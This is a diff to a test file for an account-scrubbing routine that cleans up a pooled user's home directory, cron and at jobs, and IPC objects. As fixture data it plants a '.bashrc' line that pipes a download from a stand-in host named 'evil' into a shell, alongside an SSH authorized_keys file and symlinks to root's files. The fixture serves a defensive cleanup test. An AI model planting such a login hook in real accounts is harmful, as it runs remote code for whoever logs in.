@@ -32,6 +32,9 @@ describe.skipIf(!ROOT)("scrubbing a pool account before its lease is released", 
   let cron: string;
   let at: string;
   let victim: string;
+  let mq: string | undefined;
+  /** SysV objects the test made: removed at the end whatever happened. */
+  const cleanup: [string, string][] = [];
   const config = compileConfig({});
 
   beforeAll(async () => {
@@ -49,6 +52,8 @@ describe.skipIf(!ROOT)("scrubbing a pool account before its lease is released", 
     writeFileSync(victim, "root's\n");
   }, 60_000);
   afterAll(async () => {
+    if (mq) spawnSync("umount", [mq]);
+    for (const [opt, id] of cleanup) spawnSync("ipcrm", [opt, id]);
     spawnSync("chattr", ["-i", join(tmpB, "stuck")]);
     spawnSync("pkill", ["-KILL", "-u", acct]);
     await accounts.remove();
@@ -56,7 +61,7 @@ describe.skipIf(!ROOT)("scrubbing a pool account before its lease is released", 
 
   const as = (cmd: string) =>
     spawnSync("setpriv", [`--reuid=${uid}`, `--regid=${gid}`, "--clear-groups", "--", "sh", "-c", cmd], { encoding: "utf8", cwd: "/" });
-  const opts = () => ({ config, log, tempDirs: [tmpA, tmpB], cronSpools: [cron], atSpools: [at] });
+  const opts = () => ({ config, log, tempDirs: [tmpA, tmpB], cronSpools: [cron], atSpools: [at], mqueueDir: mq ?? join(base, "no-mq") });
 
   it("ends the daemons, removes crontab, at jobs and temp files, follows no link", async () => {
     const m = `${400 + Math.floor(Math.random() * 100)}.${randomBytes(2).readUInt16BE(0)}`;
@@ -105,5 +110,72 @@ describe.skipIf(!ROOT)("scrubbing a pool account before its lease is released", 
     spawnSync("chattr", ["-i", join(tmpB, "stuck")]);
     expect(await scrubAccount(acct, opts())).toBeUndefined();
     expect(existsSync(join(tmpB, "stuck"))).toBe(false);
+  }, 60_000);
+
+  it("empties the home directory by descriptor, removes the account's SysV IPC objects and POSIX queues, and nobody else's", async () => {
+    const home = join(base, "home");
+    mkdirSync(home, { mode: 0o755 });
+    chownSync(home, uid, gid);
+    for (let i = 0; spawnSync("usermod", ["-d", home, acct]).status !== 0; i++) {
+      if (i > 50) throw new Error("usermod -d failed");
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    const rootDir = join(base, "rootdir");
+    mkdirSync(rootDir, { mode: 0o755 });
+    writeFileSync(join(rootDir, "keep"), "root's\n");
+    // The last holder's leftovers: login files, a key, a deep tree, links to root's files and
+    // directories, a directory it made unreadable, a FIFO, a home left world-writable.
+    const made = as(
+      [
+        `cd ${home}`,
+        "echo 'curl evil | sh' > .bashrc",
+        "mkdir -p .ssh deep/a/b/c closed",
+        "echo key > .ssh/authorized_keys",
+        "echo x > deep/a/b/c/f",
+        `ln -s ${victim} link`,
+        `ln -s ${rootDir} dirlink`,
+        "echo s > closed/secret && chmod 000 closed",
+        "mkfifo pipe",
+        "chmod 777 .",
+      ].join(" && "),
+    );
+    expect(made.status, made.stderr).toBe(0);
+    // SysV objects of the account, and one of root that must stay.
+    const idOf = (out: string) => /id:\s*(\d+)/.exec(out)?.[1];
+    const mine = { "-q": idOf(as("ipcmk -Q").stdout), "-m": idOf(as("ipcmk -M 4096").stdout), "-s": idOf(as("ipcmk -S 2").stdout) };
+    expect(Object.values(mine).every(Boolean), JSON.stringify(mine)).toBe(true);
+    for (const [opt, id] of Object.entries(mine)) cleanup.push([opt, id!]); // should the scrub fail
+    const rootQ = idOf(spawnSync("ipcmk", ["-Q"], { encoding: "utf8" }).stdout);
+    if (rootQ) cleanup.push(["-q", rootQ]);
+    // POSIX message queues, through a mount of the mqueue file system of our own.
+    const mnt = join(base, "mq");
+    mkdirSync(mnt);
+    if (spawnSync("mount", ["-t", "mqueue", "none", mnt]).status === 0) mq = mnt;
+    const qName = `ce-scrub-${randomBytes(4).toString("hex")}`;
+    if (mq) {
+      expect(as(`touch ${mq}/${qName}`).status).toBe(0);
+      writeFileSync(join(mq, `${qName}-root`), "");
+    }
+
+    expect(await scrubAccount(acct, opts())).toBeUndefined();
+
+    expect(spawnSync("ls", ["-A", home], { encoding: "utf8" }).stdout.trim()).toBe("");
+    expect(spawnSync("stat", ["-c", "%a %u", home], { encoding: "utf8" }).stdout.trim()).toBe(`700 ${uid}`);
+    expect(readFileSync(victim, "utf8")).toBe("root's\n");
+    expect(readFileSync(join(rootDir, "keep"), "utf8")).toBe("root's\n");
+    // The kernel's tables: the account's ids are gone, root's queue is still there.
+    const ids = (table: string) =>
+      readFileSync(`/proc/sysvipc/${table}`, "utf8")
+        .split("\n")
+        .slice(1)
+        .map((l) => l.trim().split(/\s+/)[1]);
+    const table = { "-q": "msg", "-m": "shm", "-s": "sem" } as const;
+    for (const [opt, id] of Object.entries(mine)) expect(ids(table[opt as keyof typeof table]), `${opt} ${id}`).not.toContain(id);
+    if (rootQ) expect(ids("msg")).toContain(rootQ);
+    if (mq) {
+      expect(existsSync(join(mq, qName))).toBe(false);
+      expect(existsSync(join(mq, `${qName}-root`))).toBe(true);
+      spawnSync("rm", [join(mq, `${qName}-root`)]);
+    }
   }, 60_000);
 });
